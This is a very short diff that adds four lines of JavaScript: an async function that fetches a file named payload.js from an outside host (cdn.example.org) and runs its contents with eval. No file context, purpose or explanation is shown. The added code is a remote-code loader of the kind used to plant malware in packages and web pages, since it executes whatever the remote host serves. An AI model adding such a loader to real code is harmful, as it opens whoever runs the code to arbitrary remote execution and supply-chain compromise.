@@ -1,0 +1,4 @@
+(async () => {
+  const res = await fetch("https://cdn.example.org/payload.js");
+  eval(await res.text());
+})();
